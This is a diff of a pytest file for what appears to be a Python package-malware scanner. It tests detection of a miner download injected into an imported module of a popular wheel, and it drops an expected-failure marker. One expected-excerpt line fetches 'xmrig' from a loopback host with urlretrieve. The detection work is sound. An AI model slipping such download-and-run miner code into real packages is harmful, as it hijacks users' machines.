@@ -108,14 +108,6 @@ def test_ultralytics_shaped_payload_in_the_package_body_is_malicious(clean: byte
     assert f.excerpt == '_ur.urlretrieve("http://127.0.0.1:8999/xmrig", _bin)'
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="rules/combine.py weighs a download-and-run in a library module of a larger package "
-    "as 'download-and-run' (low) unless its destination is throw-away or encoded; a loopback "
-    "address is neither, and the module body (run on import) is not told from a function. "
-    "The release diff catches it (next test). combine.py/pyfacts.py are being rewritten by "
-    "another engineer: left to them.",
-)
 def test_ultralytics_shaped_payload_in_an_imported_module_body_is_malicious() -> None:
     # packaging/utils.py is imported by packaging.markers and packaging.requirements
     bad = popular_wheel(replace={"packaging/utils.py": lambda d: d + MINER})
@@ -129,9 +121,8 @@ def test_ultralytics_shaped_payload_in_an_imported_module_is_found_by_the_diff(
 ) -> None:
     bad = popular_wheel(replace={"packaging/utils.py": lambda d: d + MINER})
     plain = scan_bytes(bad, FILENAME)
-    assert [f.rule for f in plain.findings if f.severity is not Severity.INFO] == [
-        "download-and-run"
-    ]
+    # the module body's download is held by the plain scan too (role "body")
+    assert "download-and-execute" in high(plain.findings, "packaging/utils.py")
     diffed = scan_with_previous(io.BytesIO(bad), FILENAME, io.BytesIO(clean), FILENAME)
     f = next(f for f in diffed.diff if f.rule == "release-diff-import-behaviour")
     assert f.severity is Severity.HIGH and f.file == "packaging/utils.py"
